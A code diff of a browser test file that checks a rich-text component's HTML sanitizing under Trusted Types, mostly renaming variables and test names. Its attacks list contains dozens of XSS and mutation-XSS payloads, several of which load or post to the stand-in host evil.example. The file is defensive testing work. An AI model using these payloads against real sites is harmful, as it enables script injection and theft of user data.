@@ -1,8 +1,8 @@
-import { until } from '../../kit/bench.ts'
+import { until } from '../../kit/test-harness.ts'
 import axe from 'axe-core'
 import { createRoot } from 'react-dom/client'
 import { afterEach, beforeAll, describe, expect, it } from 'vitest'
-import ground from '../../generated/tokens-later.css?inline'
+import tokens from '../../generated/deferred-tokens.css?inline'
 import base from '../base.css?inline'
 import { RichText } from './rich-text.tsx'
 import styles from './rich-text.css?inline'
@@ -17,7 +17,7 @@ const violations: string[] = []
 let end = () => {}
 afterEach(() => end())
 
-/** From here on the page refuses every text in a place where a script could come from, and all policies but ours. */
+/** From here on the page's CSP requires Trusted Types and allows only our policy. */
 beforeAll(() => {
   document.addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) =>
     violations.push(`${violatedDirective} ${sample}`),
@@ -28,13 +28,13 @@ beforeAll(() => {
   document.head.append(meta)
 })
 
-async function drawn(html: string, highlight = '') {
+async function drawText(html: string, highlight = '') {
   window.ran = []
   const host = document.body.appendChild(document.createElement('div'))
   const shadow = host.attachShadow({ mode: 'open' })
-  const sheet = new CSSStyleSheet()
-  sheet.replaceSync(ground + base + styles)
-  shadow.adoptedStyleSheets = [sheet]
+  const stylesheet = new CSSStyleSheet()
+  stylesheet.replaceSync(tokens + base + styles)
+  shadow.adoptedStyleSheets = [stylesheet]
   const stage = shadow.appendChild(document.createElement('main'))
   stage.className = 'frame'
   stage.style.width = '360px'
@@ -48,83 +48,89 @@ async function drawn(html: string, highlight = '') {
   show(html, highlight)
   end = () => (root.unmount(), host.remove())
   const box = await until(() => stage.querySelector<HTMLElement>('.rich-text'))
-  // Long enough for a handler or a script that came through.
+  // Time for an injected handler or script to run.
   for (let frame = 0; frame < 3; frame++) await new Promise(requestAnimationFrame)
   const inner = () => [...box.querySelectorAll('*')]
   return { host, stage, box, inner, show, failed }
 }
 
-/** Everything that would run says so in `ran`. */
-const say = `window.ran.push('x')`
+/** Every injected script records its run in `ran`. */
+const attack = `window.ran.push('x')`
 const attacks: [name: string, html: string][] = [
-  ['a script', `<script>${say}</script><p>ok</p>`],
-  ['a script of another spelling', `<ScRiPt >${say}</ScRiPt><p>ok</p>`],
-  ['a nested script', `<scr<script></script>ipt>${say}</scr</script>ipt><p>ok</p>`],
-  ['an error handler', `<img src=x onerror="${say}"><p>ok</p>`],
-  ['a handler behind slashes', `<img/src='x'/onerror=${say}><p>ok</p>`],
-  ['a handler on anything', `<p onclick="${say}" onpointerenter="${say}" onanimationstart="${say}">ok</p>`],
-  ['a script as address', `<a href="javascript:${say}">ok</a>`],
-  ['a script as address with signs within', `<a href="java\tscr\nipt&colon;${say}">ok</a>`],
-  ['data as address', `<a href="data:text/html,<script>${say}</script>">ok</a>`],
-  ['data as picture', `<img src="data:image/svg+xml,<svg onload=${say}>"><p>ok</p>`],
-  ['vbscript as address', `<a href="vbscript:msgbox(1)">ok</a>`],
+  ['a script', `<script>${attack}</script><p>ok</p>`],
+  ['a script in mixed case', `<ScRiPt >${attack}</ScRiPt><p>ok</p>`],
+  ['a nested script', `<scr<script></script>ipt>${attack}</scr</script>ipt><p>ok</p>`],
+  ['an error handler', `<img src=x onerror="${attack}"><p>ok</p>`],
+  ['a handler behind slashes', `<img/src='x'/onerror=${attack}><p>ok</p>`],
   [
-    'a drawing',
-    `<svg onload="${say}"><script>${say}</script><a href="javascript:${say}">x</a></svg><p>ok</p>`,
+    'handlers on a paragraph',
+    `<p onclick="${attack}" onpointerenter="${attack}" onanimationstart="${attack}">ok</p>`,
+  ],
+  ['a script URL', `<a href="javascript:${attack}">ok</a>`],
+  ['a script URL with control characters', `<a href="java\tscr\nipt&colon;${attack}">ok</a>`],
+  ['a data URL', `<a href="data:text/html,<script>${attack}</script>">ok</a>`],
+  ['a data URL as picture', `<img src="data:image/svg+xml,<svg onload=${attack}>"><p>ok</p>`],
+  ['a vbscript URL', `<a href="vbscript:msgbox(1)">ok</a>`],
+  [
+    'an SVG',
+    `<svg onload="${attack}"><script>${attack}</script><a href="javascript:${attack}">x</a></svg><p>ok</p>`,
   ],
   [
-    'a drawing with foreign content',
-    `<svg><foreignObject><img src=x onerror="${say}"></foreignObject></svg><p>ok</p>`,
+    'an SVG with foreign content',
+    `<svg><foreignObject><img src=x onerror="${attack}"></foreignObject></svg><p>ok</p>`,
   ],
   [
     'an animated address',
-    `<svg><a><animate attributeName=href values="javascript:${say}"/>x</a></svg><p>ok</p>`,
+    `<svg><a><animate attributeName=href values="javascript:${attack}"/>x</a></svg><p>ok</p>`,
   ],
-  ['a formula', `<math><mi href="javascript:${say}">x</mi></math><p>ok</p>`],
+  ['a formula', `<math><mi href="javascript:${attack}">x</mi></math><p>ok</p>`],
   [
-    'a text that another parser would read otherwise',
-    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${say}&gt;">`,
+    'a mutation by a table in MathML',
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attack}&gt;">`,
   ],
   [
-    'the same by a form in a form',
-    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${say}>`,
+    'a mutation by a nested form',
+    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${attack}>`,
   ],
-  ['the same by noscript', `<noscript><p title="</noscript><img src=x onerror=${say}>"></noscript><p>ok</p>`],
   [
-    'the same by a template',
-    `<template><p title="</template><img src=x onerror=${say}>"></template><p>ok</p>`,
+    'a mutation by noscript',
+    `<noscript><p title="</noscript><img src=x onerror=${attack}>"></noscript><p>ok</p>`,
   ],
-  ['the same by a comment', `<p>ok</p><!--><img src=x onerror=${say}>-->`],
-  ['the same by a text field', `<textarea><img title="</textarea><img src=x onerror=${say}>">`],
-  ['the same by a title', `<svg></p><title><a id="</title><img src=x onerror=${say}>">`],
+  [
+    'a mutation by a template',
+    `<template><p title="</template><img src=x onerror=${attack}>"></template><p>ok</p>`,
+  ],
+  ['a mutation by a comment', `<p>ok</p><!--><img src=x onerror=${attack}>-->`],
+  ['a mutation by a textarea', `<textarea><img title="</textarea><img src=x onerror=${attack}>">`],
+  ['a mutation by a title', `<svg></p><title><a id="</title><img src=x onerror=${attack}>">`],
   [
     'a shadow root in markup',
-    `<div><template shadowrootmode=open><img src=x onerror="${say}"></template></div>`,
+    `<div><template shadowrootmode=open><img src=x onerror="${attack}"></template></div>`,
   ],
   ['a style', `<style>*{display:none;background:url(https://evil.example/x)}</style><p>ok</p>`],
-  ['a style of one', `<p style="position:fixed;inset:0;background:url(https://evil.example/x)">ok</p>`],
+  ['a style attribute', `<p style="position:fixed;inset:0;background:url(https://evil.example/x)">ok</p>`],
   ['a base', `<base href="https://evil.example/"><p>ok</p>`],
-  ['another place to go to', `<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>ok</p>`],
+  ['a redirect', `<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>ok</p>`],
   ['a form', `<form action="https://evil.example/"><input name=password><button>ok</button></form>`],
   [
     'a frame',
-    `<iframe srcdoc="<script>parent.${say}</script>"></iframe><iframe src="javascript:${say}"></iframe>`,
+    `<iframe srcdoc="<script>parent.${attack}</script>"></iframe><iframe src="javascript:${attack}"></iframe>`,
   ],
-  ['an object', `<object data="javascript:${say}"></object><embed src="javascript:${say}">`],
-  ['markup left open', `<p>ok</p><img src='https://evil.example/?`],
-  ['names that hide the page’s own', `<img name=body id=cookie><a id=location name=attributes>ok</a>`],
-  ['an element of one’s own', `<lustra-login is="x"></lustra-login><x-y onclick="${say}">ok</x-y>`],
+  ['an object', `<object data="javascript:${attack}"></object><embed src="javascript:${attack}">`],
+  ['unclosed markup', `<p>ok</p><img src='https://evil.example/?`],
+  ['DOM clobbering', `<img name=body id=cookie><a id=location name=attributes>ok</a>`],
+  ['custom elements', `<lustra-login is="x"></lustra-login><x-y onclick="${attack}">ok</x-y>`],
   ['a slot and a part', `<slot name=header></slot><p slot=header part=table class=modal>ok</p>`],
   [
-    'sound and film',
-    `<video poster="https://evil.example/x"><source onerror="${say}"></video><audio src onerror="${say}">`,
+    'audio and video',
+    `<video poster="https://evil.example/x"><source onerror="${attack}"></video><audio src onerror="${attack}">`,
   ],
-  ['a link to a sheet', `<link rel=stylesheet href="https://evil.example/x"><p>ok</p>`],
+  ['a stylesheet link', `<link rel=stylesheet href="https://evil.example/x"><p>ok</p>`],
   [
     'a picture with many sources',
     `<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>`,
   ],
-  ['deep nesting', `${'<div>'.repeat(3_000)}<img src=x onerror="${say}">`],
+  ['deep nesting', `${'<div>'.repeat(3_000)}<img src=x onerror="${attack}">`],
 ]
 
 const tags = new Set(
@@ -139,14 +145,14 @@ const attributes = new Set(
 )
 
 describe('a text of the server', () => {
-  it('is shown on a page that refuses every text in a place where a script could come from (P1, P2)', async () => {
+  it('is shown on a page that requires Trusted Types (P1, P2)', async () => {
     expect(() => (document.createElement('p').innerHTML = '<b>x</b>')).toThrow(TypeError)
     await until(() => violations.length > 0)
     violations.length = 0
   })
 
   it.each(attacks)('does nothing with %s (P1, P2)', async (_, html) => {
-    const { inner, stage } = await drawn(html)
+    const { inner, stage } = await drawText(html)
     expect(window.ran).toEqual([])
     expect(stage.textContent).not.toContain('evil.example')
     for (const element of inner()) {
@@ -162,7 +168,7 @@ describe('a text of the server', () => {
   })
 
   it('keeps what makes it readable (P1, P2)', async () => {
-    const { box, host } = await drawn(
+    const { box, host } = await drawText(
       `<h1>Rats</h1><p>Close <strong>every</strong> gap.</p><h3>How</h3><ol start="3"><li>Look</li></ol>
        <table><tr><th scope="col">Wide</th><td>${'x'.repeat(200)}</td></tr></table>
        <blockquote>Said</blockquote><figure><img src="/File/Open?ticket=1" alt="A gap"><figcaption>A gap</figcaption></figure>`,
@@ -182,8 +188,8 @@ describe('a text of the server', () => {
     expect(found.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join()}`)).toEqual([])
   })
 
-  it('opens links beside the page and knows nothing but https, mail and telephone (P1, P2)', async () => {
-    const { box } = await drawn(
+  it('opens links in a new tab and allows only https, mail and telephone (P1, P2)', async () => {
+    const { box } = await drawText(
       `<a href="https://example.com/x" rel="opener" target="_self">one</a><a href="mailto:a@b.example">two</a>
        <a href="tel:+8621">three</a><a href="http://example.com">four</a><a href="/login">five</a>
        <a href="https://bank.example@evil.example/">six</a><a href="//evil.example">seven</a>`,
@@ -195,8 +201,8 @@ describe('a text of the server', () => {
     for (const word of ['four', 'five', 'six', 'seven']) expect(box.textContent).toContain(word)
   })
 
-  it('shows pictures of the API host alone, and says when one did not come (P1, P2)', async () => {
-    const { box, failed } = await drawn(
+  it('shows only pictures of the API host, and reports one that did not load (P1, P2)', async () => {
+    const { box, failed } = await drawText(
       [
         '/File/Open?ticket=1',
         'File/Open?ticket=2',
@@ -220,8 +226,8 @@ describe('a text of the server', () => {
     await until(() => failed.length > 0)
   })
 
-  it('marks what was searched for in its words and nowhere else (P2)', async () => {
-    const { box, show } = await drawn(
+  it('highlights search hits in text only (P2)', async () => {
+    const { box, show } = await drawText(
       '<p>Rats: <b>a rat</b> <a href="https://rat.example/">here</a></p>',
       'RAT',
     )
@@ -232,9 +238,9 @@ describe('a text of the server', () => {
     expect(box.querySelectorAll('b')).toHaveLength(1)
   })
 
-  it('of a million characters is there after a moment (P2)', async () => {
+  it('of a million characters is shown within seconds (P2)', async () => {
     const began = performance.now()
-    const { box } = await drawn(`<p>${'word <b>bold</b> '.repeat(60_000)}</p>`, 'word')
+    const { box } = await drawText(`<p>${'word <b>bold</b> '.repeat(60_000)}</p>`, 'word')
     expect(box.querySelectorAll('b')).toHaveLength(60_000)
     expect(performance.now() - began).toBeLessThan(5_000)
   })
